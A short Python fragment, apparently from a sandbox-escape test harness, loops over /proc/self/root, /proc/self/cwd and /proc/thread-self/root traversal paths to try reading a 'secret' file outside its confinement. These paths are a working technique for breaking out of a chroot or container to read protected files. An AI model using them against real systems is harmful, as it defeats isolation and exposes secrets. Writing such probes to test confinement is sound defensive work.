# Goes by the magic links to its own root and working directory.
for start in ("/proc/self/root", "/proc/self/root/..", "/proc/self/cwd/../../../../..", "/proc/thread-self/root/.."):
    attempt(lambda: content(start + stage["secret"]))
